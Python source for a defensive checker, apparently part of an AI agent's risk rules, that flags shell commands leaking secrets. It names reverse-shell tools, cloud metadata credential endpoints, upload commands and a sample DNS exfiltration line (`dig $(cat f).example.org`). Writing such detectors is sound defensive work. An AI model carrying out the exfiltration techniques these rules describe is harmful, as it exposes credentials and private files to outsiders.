"""Find what leaves the machine by programs that send, serve, look up or copy: secrets in their words and in their input."""

from __future__ import annotations

import re
from collections.abc import Callable
from itertools import pairwise
from typing import TYPE_CHECKING

from agent.protocol.decisions import Finding, Level
from agent.risk.invocations.confidential import confides, discloses
from agent.risk.paths.absolute import absolute
from agent.risk.paths.known_facts import is_link, read_at
from agent.risk.reader.words import UNKNOWN, Invocation, Word, fewer_empty_lines
from agent.risk.tables.names import names, pattern
from agent.risk.tables.store import Program
from agent.text.lazy_pattern import LazyPattern

if TYPE_CHECKING:
    from agent.risk.shell.walk import Walker

_NETWORKED = names("leaks.networked")
_BY_NAME = names("leaks.by_name")
_COPIERS = names("leaks.copiers")
_CONTAINERS = names("leaks.containers")
_KEPT = ("secrets", "account-secret", "history")
_SENDERS = names("leaks.senders")
_ASKERS = names("leaks.askers")
_OUTGOING, _STORING = names("leaks.outgoing"), names("leaks.storing")
_SERVERS = names("leaks.servers")
_FETCHERS = names("leaks.fetchers")
_LOGGED_IN = names("leaks.logged_in")
_SESSIONS = names("leaks.sessions")
_LOOKS_ONLY = names("leaks.looks_only")
_UPLOADS = LazyPattern(
    r"(?:^|[\n;])\s*(?:m?(?:put|reput|send|append)|mirror(?=[^\n;]*\s(?:-\w*R|--reverse)))\s+(?:-[\w-]+\s+)*([^\s;]+)"
)
# A machine in the open by its number: who it is, no name and hardly a certificate says.
PUBLIC_NUMBER = r"(?!10\.|127\.|0\.|169\.254\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.)\d{1,3}(?:\.\d{1,3}){3}(?![\w.])"
_NAMELESS = LazyPattern(r"(?:\w+://)?(?:[^/@]*@)?" + PUBLIC_NUMBER)
_WEB = LazyPattern(r"/(?:public_html|htdocs|wwwroot|www|nginx/html)(?:/|$)")
# What follows these is what a program logs in or is set up with, not what it sends.
_LOGS_IN = LazyPattern(
    r"-i$|-c$|-K$|--?[\w-]*(?:key|cert|identity|config|cred|token|profile|password|auth|netrc|cacert|rc)[\w-]*(?:=|$)"
)


def judge_leaks(walker: Walker, name: str, invocation: Invocation, table: Program | None) -> None:
    """Secrets that `name` would send, serve or tell."""
    connects = name == "openssl" and _reaches_out(name, invocation, table)
    if connects or name in _SENDERS or (table is not None and table.name in _ASKERS):
        _judge_sender(walker, invocation)
    if name in _CONTAINERS and any(word.text in ("cp", "push") for word in invocation.words[1:4]):
        _judge_sender(walker, invocation)
    if name == "logger" and any(re.match(r"-n|--server\b", word.text) for word in invocation.words[1:]):
        _judge_sender(walker, invocation)
        _judge_told_words(walker, name, invocation)
    if (
        invocation.stdin is not None
        and "shell" in invocation.stdin[1].split()
        and _reaches_out(name, invocation, table)
    ):
        walker.add("reverse-shell", [], invocation.place)
    if name == "httpd" and "busybox" in invocation.via:  # its -h names the folder
        walker.add("serve", [], invocation.place)
    if name in _SERVERS:
        judge_served(walker, invocation, _served_folder(invocation))
    if name in _FETCHERS:
        judge_metadata(walker, invocation)
    if (table is not None and table.name in _NETWORKED) or name in _BY_NAME:
        _judge_told_words(walker, name, invocation)


def judge_named_secrets(walker: Walker, name: str, invocation: Invocation, table: Program | None) -> None:
    """Warn of any program that is given the password file or a private key: most likely it shows it."""
    if name in _LOOKS_ONLY:
        return
    roles = {} if table is None else table.roles  # "none" where only the name is needed, or the time: `date -r FILE`
    texts = [
        word
        for before, word in pairwise(invocation.words)
        if "none" not in (roles.get(before.text), roles.get(word.text.partition("=")[0]))
    ]
    if invocation.stdin is not None and invocation.stdin[0] and len(invocation.stdin[0]) < 1_000:
        texts = [*texts, invocation.words[0].part(invocation.stdin[0])]
    told = [word for word in texts if "/" in word.text and pattern("leaks.sure").search(word.text)]
    if told:
        walker.add("secret", told, invocation.place, invocation=invocation, rule="secret.named")


def _reaches_out(name: str, invocation: Invocation, table: Program | None) -> bool:
    """Tell whether a program hands what it reads to another machine."""
    if name == "openssl":
        return any(word.text in ("s_client", "s_server") for word in invocation.words[1:3])
    return (table is not None and table.name in ("telnet", "socat", "nc", "curl", "ssh")) or name in (
        "websocat",
        "stunnel",
        "cryptcat",
        "gnutls-cli",
    )


def metadata(word: Word) -> bool:
    """Tell whether `word` is an address of a cloud's metadata service."""
    return pattern("leaks.metadata").match(word.text) is not None


def judge_metadata(walker: Walker, invocation: Invocation) -> None:
    """Addresses inside a cloud that hand out credentials to whoever asks."""
    asked = [word for word in invocation.words[1:] if metadata(word)]
    if asked:
        reason = "asks the cloud's metadata service, which hands out credentials"
        walker.add("secret", asked, invocation.place, reason=reason, rule="secret.metadata")


def _judge_sender(walker: Walker, invocation: Invocation) -> None:
    """A program that uploads: is a secret among its words, in what it reads, or in the commands it reads?"""
    text, taint = invocation.stdin or ("", "")
    if discloses(taint):
        walker.add("send-secret", [], invocation.place, invocation=invocation)
        return
    walker.work.spend(len(invocation.words) * 2)
    named = _paths(invocation.words[1:], lambda text: is_link(text, invocation.cwd, walker.rater.context.facts))
    told = [text or "", *(word.text for word in invocation.words[1:] if " " in word.text)]
    for found in _UPLOADS.finditer(fewer_empty_lines("\n".join(told))):
        named.append(invocation.words[0].part(found.group(1)))
    secret = [word for word in named if "secret" in word.taint or is_kept(walker, invocation, word)]
    if secret:
        reason = "sends {targets}, which is secret, over the network"
        walker.add("send-secret", secret, invocation.place, reason=reason, invocation=invocation)


def _paths(words: list[Word], is_link: Callable[[str], bool]) -> list[Word]:
    """Words that may name what is sent: not what a program logs in with, and without `@`, `name=` and the like."""
    found: list[Word] = []
    skip = False
    for word in words:
        text = word.text
        if skip or _LOGS_IN.match(text):
            skip = not skip and "=" not in text
            continue
        pieces = (
            text,
            text.partition("=")[2],
            text.rpartition("@")[2],
            text.rpartition("<")[2],
            text.partition(":")[2],
            *text.split()[1:],
        )
        for piece in dict.fromkeys(pieces):
            if piece and ("/" in piece or "." in piece or is_link(piece)):
                found.append(word.part(piece))
    return found


def judge_sent_on(walker: Walker, invocation: Invocation, found: list[Finding]) -> None:
    """Secrets that a program is given which, by what was found about it, hands texts on to other machines."""
    kinds = {one.effect.kind for one in found if one.effect is not None}
    if kinds.isdisjoint(_OUTGOING) or any(one.level is Level.HIGH for one in found):
        return
    verbs = {word.text for word in invocation.words[1:4]}
    if not _STORING.isdisjoint(verbs):
        return
    told = any(
        "secret" in word.taint and not _LOGS_IN.match(before.text) and not _LOGS_IN.match(word.text)
        for before, word in pairwise(invocation.words)
    )
    if told:
        walker.add("send-secret", [], invocation.place, invocation=invocation)
    elif "send" not in kinds:
        _judge_sender(walker, invocation)


def is_kept(walker: Walker, invocation: Invocation, word: Word) -> bool:
    """Tell whether `word` names a file or folder whose content is secret."""
    places = read_at(word, invocation.cwd, walker.rater.context.facts)
    return any(walker.rater.scopes.of(place, invocation.cwd) in _KEPT for place in places)


def is_served(walker: Walker, word: Word, cwd: str) -> bool:
    """Tell whether what is put there can be read by others: on this machine, or through a web server."""
    path = absolute(word.text, cwd)
    shared = walker.rater.scopes.public(path) and not path.endswith(f".{'X' * 8}")  # what mktemp makes is one's own
    return shared or _WEB.search(path) is not None


def judge_left(walker: Walker, invocation: Invocation, word: Word, taint: str) -> bool:
    """Tell whether secrets of that origin are written to a file where they do not belong; then that is told."""
    if "secret" in taint or ("credential" in taint and is_served(walker, word, invocation.cwd)):
        reason = "stores secrets in {targets}"
        walker.add("send-secret", [word], invocation.place, reason=reason, rule="secret.stored")
        return True
    return False


def judge_served(walker: Walker, invocation: Invocation, folder: Word) -> None:
    """A folder opened to the network: whose secrets are below it?"""
    scope = walker.rater.scopes.of(folder, invocation.cwd, recursive=True)
    if scope in (
        "secrets",
        "account",
        "account-secret",
        "history",
        "home-all",
        "users",
        "everything",
        "config",
        "vcs",
    ) or (scope == "system" and not folder.text.startswith(("/var/www", "/srv", "/usr/share"))):
        reason = "lets the network read {targets}, secrets and all"
        walker.add("send-secret", [folder], invocation.place, reason=reason, rule="secret.served")


def _served_folder(invocation: Invocation) -> Word:
    words = invocation.words[1:]
    for word, following in pairwise(words):
        if word.text in ("-h", "-d", "-t", "--directory", "--root", "--dir", "-r", "--path"):
            return following
    for word in words:
        if "=" in word.text and word.text.startswith(("--directory", "--root", "--dir", "--path")):
            return word.part(word.text.partition("=")[2])
    operands = [
        word
        for before, word in pairwise(invocation.words)
        if not (word.text.startswith("-") or before.text.startswith("-"))
    ]
    return operands[-1] if operands else Word(invocation.cwd, *invocation.place)


def _judge_told_words(walker: Walker, program: str, invocation: Invocation) -> None:
    """Data in an address or a name leaves the machine when it is looked up: `dig $(cat f).example.org`."""
    words = invocation.words[1:]
    if program == "git":  # its other words stay here
        words = [word for word in words if "://" in word.text or word.text.startswith("http.")]
    if any("secret" in word.taint or (program not in _LOGGED_IN and confides(word.taint)) for word in words):
        walker.add("send-secret", [], invocation.place, invocation=invocation)
        return
    shown = [
        program in _SESSIONS or _is_login(before.text, word.text)
        for before, word in pairwise(invocation.words)
        if confides(word.taint) and word in words and before.text not in ("-o", "-O", "-P", "--output")
    ]
    if shown:  # who gets it is not known to be who gave it
        level = Level.MEDIUM if all(shown) and not any(_NAMELESS.match(word.text) for word in words) else None
        reason = "sends what looks like a key or a password along"
        walker.add(
            "send-secret", [], invocation.place, level=level, reason=reason, rule="secret.login", invocation=invocation
        )
    told = [word for word in words if _tells(word)]
    if told:
        reason = "tells the network what it read here, as a part of {targets}"
        walker.add("send", told, invocation.place, reason=reason, rule="send.name", invocation=invocation)


def _is_login(option: str, text: str) -> bool:
    """Tell whether a secret stands where one logs in: a header, a field or an option that is called so, a user in an address."""
    host = re.match(r"\w+://([^/?#]*)", text)
    if host is not None and re.search(r"[^@]\0|\0(?!:?\d*$)", host[1].rpartition("@")[2]):
        return False  # in the name that is looked up, which others see
    if pattern("leaks.login_options").fullmatch(option):
        return True
    return (host is not None and UNKNOWN in host[1].partition("@")[0] and "@" in host[1]) or any(
        pattern("leaks.logs_in").search(text[: found.start()]) is not None for found in re.finditer(UNKNOWN, text)
    )


def _tells(word: Word) -> bool:
    """Tell whether a word that goes to the network holds what a command printed: of a file, or built into a name or address."""
    taints = word.taint.split()
    if "file" in taints:
        return True
    if word.known or not {"cmd", "input", "found", "listed"}.intersection(taints):
        return False
    return re.search(r"\0[\w-]*\.[\w.-]*[A-Za-z]|://[^\0]*/[^\0]*\0|://\0\.", word.text) is not None


def secrets_stored(walker: Walker, invocation: Invocation, table: Program, before: int) -> None:
    """A copy of a secret in a place that others read is a secret given away."""
    if table.name not in _COPIERS and table.handler != "programs.secret_tools:secret_store":
        return
    effects = [finding.effect for finding in walker.findings[before:] if finding.effect is not None]
    if not any(effect.kind == "secret" or (effect.kind == "move" and effect.scope in _KEPT) for effect in effects):
        return
    for effect in effects:
        if effect.kind not in ("write", "copy-to"):
            continue
        targets = [Word(text, *invocation.place) for text in effect.targets]
        shared = any(is_served(walker, word, invocation.cwd) for word in targets)
        if shared or effect.scope in ("temp", "outside", "users", "system", "remote"):
            reason = "stores secrets in {targets}"
            walker.add("send-secret", targets, invocation.place, reason=reason, rule="secret.stored")
            return
